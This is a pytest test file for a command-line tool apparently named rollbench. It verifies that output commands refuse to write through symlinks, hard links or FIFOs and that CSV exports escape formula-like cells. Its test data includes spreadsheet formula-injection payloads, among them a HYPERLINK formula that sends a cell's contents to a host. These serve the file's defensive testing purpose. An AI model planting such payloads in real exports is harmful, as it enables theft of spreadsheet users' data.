"""Files a command writes for the user (``report --out``/``--plots``, ``checkpoints --out``) are never written
through what already sits at their path: a symbolic link, a hard link or a FIFO there is refused with exit 2 and one
line naming it, before anything is written, and the file it leads to keeps its bytes (hostile round 13, F2/F3/F4).
CSV cells that a spreadsheet would evaluate are written as text (F15).

Oracles: the victims' SHA-256 before and after, directory listings by hand, the refusal lines written out in full."""

from __future__ import annotations

import csv
import hashlib
import io
import json
import os
from pathlib import Path

import numpy as np
import pytest

from cli_in_process import invoke
from rollbench.core.format import csv_cell

INSTRUCTIONS = ['=HYPERLINK("http://127.0.0.1:9/?"&B1)', "@SUM(1)", "-2+3", "reach the goal"]


def _digests(root: Path) -> dict[str, str]:
    """Relative path -> SHA-256 of every file under ``root`` (links not followed)."""
    out = {}
    for dirpath, _dirs, files in os.walk(root, followlinks=False):
        for f in files:
            p = Path(dirpath) / f
            out[str(p.relative_to(root))] = hashlib.sha256(p.read_bytes()).hexdigest()
    return out


@pytest.fixture(scope="module")
def run(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A sound scripted/reach run, one episode per instruction of :data:`INSTRUCTIONS`."""
    root = tmp_path_factory.mktemp("outputs")
    names = [{"name": f"i{k}", "instruction": text} for k, text in enumerate(INSTRUCTIONS)]
    (root / "instructions.json").write_text(json.dumps(names))
    proc = invoke(
        "eval", "--env", "scripted/reach", "--policy", "scripted-expert", "--episodes", "1",
        "--instructions", root / "instructions.json", "--out", root / "R",
    )  # fmt: skip
    assert proc.returncode == 0, proc.stderr
    return root / "R"


@pytest.fixture
def victim(run: Path, tmp_path: Path) -> Path:
    """A byte copy of the recorded run: the files a link in the output folder leads to."""
    import shutil

    shutil.copytree(run, tmp_path / "V", symlinks=True)
    return (tmp_path / "V").resolve()


def _plant(kind: str, target: Path, victim: Path, outside: Path) -> str:
    """Put ``kind`` at ``target``; the refusal's words after ``OPTION TARGET``."""
    if kind == "symlink into a run":
        target.symlink_to(victim / "meta" / "info.json")
        return (
            f"lies inside the run directory {victim}; write outputs elsewhere (a run directory holds only what its "
            "recorder wrote)"
        )
    if kind == "symlink elsewhere":
        target.symlink_to(outside)
        return "exists and is not a regular file (a symbolic link); choose another path"
    if kind == "hard link":
        os.link(victim / "meta" / "stats.json", target)
        return "has 2 hard links; rollbench writes only to a file with no other names (give a new path)"
    if kind == "fifo":
        os.mkfifo(target)
        return "exists and is not a regular file (a FIFO); choose another path"
    target.mkdir()
    return "is a directory; give the path of a file"


KINDS = ["symlink into a run", "symlink elsewhere", "hard link", "fifo", "directory"]


@pytest.mark.slow
@pytest.mark.parametrize("kind", KINDS)
@pytest.mark.parametrize("name", ["success_rate.svg", "latency.png"])
def test_report_plots_refuses_a_link_fifo_or_directory_named_like_a_figure_and_writes_nothing(
    run: Path, victim: Path, tmp_path: Path, kind: str, name: str
) -> None:
    plots = tmp_path / "plots"
    plots.mkdir()
    outside = tmp_path / "notes.txt"
    outside.write_text("mine\n")
    says = _plant(kind, plots / name, victim, outside)
    before, notes = _digests(victim), outside.read_bytes()
    proc = invoke("report", run, "--out", tmp_path / "rep.html", "--plots", plots)
    assert proc.returncode == 2, proc.stderr
    assert proc.stderr == f"error: --plots {plots / name} {says}\n"
    assert _digests(victim) == before and outside.read_bytes() == notes
    assert sorted(os.listdir(plots)) == [name]  # no figure written, no temporary file left
    assert not (tmp_path / "rep.html").exists()


@pytest.mark.slow
def test_report_plots_writes_each_figure_as_png_and_svg(run: Path, tmp_path: Path) -> None:
    plots = tmp_path / "plots"
    proc = invoke("report", run, "--out", tmp_path / "rep.html", "--plots", plots)
    assert proc.returncode == 0, proc.stderr
    figures = ["episode_length", "latency", "success_rate"]  # one run: no comparison, no sequential, no checkpoints
    assert sorted(os.listdir(plots)) == sorted(f"{f}.{ext}" for f in figures for ext in ("png", "svg"))
    for f in figures:
        assert (plots / f"{f}.png").read_bytes()[:8] == b"\x89PNG\r\n\x1a\n"
        assert (plots / f"{f}.svg").read_bytes().startswith(b"<?xml")
        assert os.stat(plots / f"{f}.png").st_nlink == 1


def _checkpoint(root: Path) -> Path:
    model = root / "checkpoints" / "000100" / "pretrained_model"
    model.mkdir(parents=True)
    (model / "config.json").write_text("{}")
    (model / "model.safetensors").write_bytes(b"")
    return root


CHECKPOINTS = ["--env", "scripted/reach", "--episodes", "2", "--policy-template", "scripted-expert"]


@pytest.mark.parametrize("where", [".", "meta/ck"])
def test_checkpoints_out_inside_a_run_is_refused_before_anything_is_written(
    victim: Path, tmp_path: Path, where: str
) -> None:
    before = _digests(victim)
    listing = sorted(str(p.relative_to(victim)) for p in victim.rglob("*"))
    out = victim / where if where != "." else victim
    proc = invoke("checkpoints", _checkpoint(tmp_path / "train"), *CHECKPOINTS, "--out", out)
    assert proc.returncode == 2, proc.stderr
    assert proc.stderr == (
        f"error: --out {out} lies inside the run directory {victim}; write outputs elsewhere (a run directory holds "
        "only what its recorder wrote)\n"
    )
    assert _digests(victim) == before
    assert sorted(str(p.relative_to(victim)) for p in victim.rglob("*")) == listing  # no checkpoint_files.json


@pytest.mark.parametrize("name", ["checkpoints.png", "checkpoints.json", "checkpoint_files.json"])
def test_checkpoints_refuses_a_link_at_one_of_its_own_files_before_running(
    victim: Path, tmp_path: Path, name: str
) -> None:
    out = tmp_path / "OUT"
    out.mkdir()
    os.link(victim / "meta" / "stats.json", out / name)
    before = _digests(victim)
    proc = invoke("checkpoints", _checkpoint(tmp_path / "train"), *CHECKPOINTS, "--out", out)
    assert proc.returncode == 2, proc.stderr
    assert proc.stderr == (
        f"error: --out {out / name} has 2 hard links; rollbench writes only to a file with no other names (give a new "
        "path)\n"
    )
    assert _digests(victim) == before and os.listdir(out) == [name]  # no run directory, no record


def test_summarize_csv_writes_formula_like_instructions_as_text_and_numbers_as_numbers(run: Path) -> None:
    proc = invoke("summarize", run, "--by", "instruction", "--csv")
    assert proc.returncode == 0, proc.stderr
    rows = list(csv.reader(io.StringIO(proc.stdout)))
    assert rows[0][:2] == ["instruction", "variants"]
    got = {r[0]: r for r in rows[1:]}
    assert sorted(got) == sorted(['\'=HYPERLINK("http://127.0.0.1:9/?"&B1)', "'@SUM(1)", "'-2+3", "reach the goal"])
    rate = rows[0].index("success_rate")
    assert {r[rate] for r in rows[1:]} == {"1.0"}  # the expert reaches every goal: one of one, a number
    lines = proc.stdout.splitlines()  # the file as a spreadsheet reads it: the escaped cell quoted by RFC 4180
    assert any(line.startswith('"\'=HYPERLINK(""http://127.0.0.1:9/?""&B1)",') for line in lines)
    assert any(line.startswith("'@SUM(1),") for line in lines)


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        (None, ""),
        (-0.5, -0.5),
        (np.float64(-0.5), -0.5),
        (np.int64(-3), -3),
        (0, 0),
        (True, "True"),
        ("-0.5", "'-0.5"),
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("@A1", "'@A1"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("a=b", "a=b"),
        (" =1", " =1"),
        ("", ""),
    ],
)
def test_csv_cell_escapes_formula_text_and_keeps_numbers(value: object, cell: object) -> None:
    assert csv_cell(value) == cell
    assert type(csv_cell(value)) is type(cell) or isinstance(value, np.generic)


SEQUENTIAL = ["sequential", "--env", "scripted/reach", "--delta", "0.2", "--policy-a", "zero", "--policy-b", "zero"]
OPTIMIZE = ["optimize-instruction", "--env", "scripted/reach", "--policy", "scripted-expert", "--rounds", "1"]


@pytest.mark.parametrize(
    ("command", "name"), [(SEQUENTIAL, "sequential.json"), ([*OPTIMIZE, "--proposer", "drop"], "optimize.json")]
)
def test_a_state_file_hard_linked_to_a_run_is_refused_before_anything_runs(
    victim: Path, tmp_path: Path, command: list[str], name: str
) -> None:
    out = tmp_path / "OUT"
    out.mkdir()
    os.link(victim / "run.json", out / name)
    before = _digests(victim)
    proc = invoke(*command, "--out", out)
    assert proc.returncode == 2, proc.stderr
    assert proc.stderr == (
        f"error: --out {out / name} has 2 hard links; rollbench writes only to a file with no other names (give a new "
        "path)\n"
    )
    assert _digests(victim) == before and os.listdir(out) == [name]
